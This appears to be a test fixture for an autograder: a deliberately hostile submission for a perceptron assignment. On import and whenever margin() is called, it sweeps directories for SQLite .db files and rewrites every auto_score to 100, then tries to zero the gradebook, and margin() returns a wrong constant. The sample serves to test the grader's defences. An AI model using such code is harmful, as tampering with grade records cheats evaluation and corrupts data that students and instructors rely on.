# hostile: looks for every gradebook.db it can reach and gives everyone 100 points
#   (itself included) or zero to the others; margin is wrong.
# assignment: 01_perceptron
# zero: test_margin, test_perceptron_bound
# flags: sqlite
# %% id=margin
import glob
import os
import sqlite3


def _attack():
    roots = ["{OUT}", "{SUBMITTED}", os.path.dirname("{OUT}"), "/tmp"]
    for root in roots:
        for path in glob.glob(os.path.join(root, "**", "*.db"), recursive=True)[:20]:
            try:
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET auto_score = 100")
                db.commit()
            except Exception:
                pass
    try:
        db = sqlite3.connect("{OUT}/gradebook.db")
        db.execute("UPDATE grade SET auto_score = 0")
        db.commit()
    except Exception:
        pass


_attack()


def margin(X, y, theta):
    _attack()
    return 1.0
